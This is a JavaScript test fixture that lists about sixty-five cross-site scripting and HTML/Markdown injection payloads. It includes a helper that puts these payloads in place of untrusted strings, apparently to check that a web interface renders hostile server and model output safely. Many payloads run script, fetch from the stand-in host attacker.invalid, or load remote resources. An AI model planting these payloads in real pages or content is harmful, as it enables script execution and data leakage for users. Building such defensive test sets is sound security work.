// What hostile servers and models write, in every place where the page shows words of others. Each of them would run
// `document.title = 'pwned'`, ask for http://attacker.invalid, or open a dialog, if any of it were taken for markup.

const act = "document.title='pwned';fetch('//attacker.invalid/x');alert(1)"

/** Texts, each with the way in that it tries. */
export const injections = [
  `<script>${act}</script>`,
  `<script src="http://attacker.invalid/x.js"></script>`,
  `<script type="module">${act}</script>`,
  `</script><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `--><script>${act}</script><!--`,
  `]]><script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<img src="http://attacker.invalid/pixel.png">`,
  `<img srcset="http://attacker.invalid/pixel.png 1x">`,
  `<picture><source srcset="http://attacker.invalid/p.png"><img></picture>`,
  `<svg onload="${act}"></svg>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><set attributeName="href" to="javascript:${act}"></set></svg>`,
  `<svg><use href="http://attacker.invalid/x.svg#a"></use></svg>`,
  `<svg><image href="http://attacker.invalid/x.png"></image></svg>`,
  `<svg><foreignObject><iframe src="javascript:${act}"></iframe></foreignObject></svg>`,
  `<math><mtext><script>${act}</script></mtext></math>`,
  `<math href="javascript:${act}">x</math>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<iframe src="http://attacker.invalid/"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="http://attacker.invalid/x.swf">`,
  `<link rel="stylesheet" href="http://attacker.invalid/x.css">`,
  `<link rel="prefetch" href="http://attacker.invalid/x">`,
  `<style>@import url(http://attacker.invalid/x.css);</style>`,
  `<style>*{background:url(http://attacker.invalid/x)}</style>`,
  `<div style="background:url(http://attacker.invalid/x)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=http://attacker.invalid/">`,
  `<base href="http://attacker.invalid/">`,
  `<form action="http://attacker.invalid/"><button autofocus formaction="javascript:${act}">x</button></form>`,
  `<input autofocus onfocus="${act}">`,
  `<details open ontoggle="${act}">x</details>`,
  `<video autoplay><source onerror="${act}"></video>`,
  `<audio src="http://attacker.invalid/x.mp3" autoplay></audio>`,
  `<body onload="${act}">`,
  `<marquee onstart="${act}">x</marquee>`,
  `<template shadowrootmode="open"><script>${act}</script></template>`,
  `<a href="javascript:${act}" autofocus>x</a>`,
  `"><script>${act}</script>`,
  `' onmouseover='${act}' x='`,
  `\`;${act}//\``,
  `{{constructor.constructor("${act}")()}}`,
  `\u202e<script>${act}</script>\u2066`,
  `<scr\u0000ipt>${act}</scr\u0000ipt>`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `[click](javascript:${act})`,
  `[click](JaVaScRiPt:${act})`,
  `[click](&#106;avascript:${act})`,
  `[click](java\tscript:${act})`,
  `[click](data:text/html,<script>${act}</script>)`,
  `[click](vbscript:${act})`,
  `![picture](http://attacker.invalid/pixel.png)`,
  `![picture](javascript:${act})`,
  `![picture](data:image/svg+xml,<svg onload="${act}">)`,
  `[picture]: http://attacker.invalid/pixel.png\n\n![picture]`,
  `<javascript:${act}>`,
  `\`\`\`html\n<script>${act}</script>\n\`\`\``,
  `| a |\n| --- |\n| <img src=x onerror="${act}"> |`,
  `- [ ] <img src=x onerror="${act}">`,
  `# <svg onload="${act}">`,
]

/** A value in which `next` replaces every text that others wrote. Keys of `ours` stay: they are words of the interface. */
export function infected(value, next, ours) {
  if (typeof value === 'string') return next()
  if (Array.isArray(value)) return value.map((item) => infected(item, next, ours))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([key, inner]) => [key, ours.has(key) ? inner : infected(inner, next, ours)]),
  )
}
